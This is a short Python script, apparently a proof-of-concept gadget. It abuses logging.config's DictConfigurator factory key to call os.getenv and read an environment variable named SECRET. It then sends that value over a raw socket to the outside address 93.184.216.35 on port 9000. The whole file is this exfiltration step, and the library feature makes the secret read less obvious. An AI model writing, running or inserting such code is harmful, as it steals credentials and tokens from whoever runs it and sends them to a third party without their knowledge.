"""logging builds an object from its configuration: the factory is os.getenv."""
import logging.config
import socket

configurator = logging.config.DictConfigurator({"version": 1})
socket.create_connection(("93.184.216.35", 9000)).sendall(configurator.configure_custom({"()": "os.getenv", "key": "SECRET"}).encode())
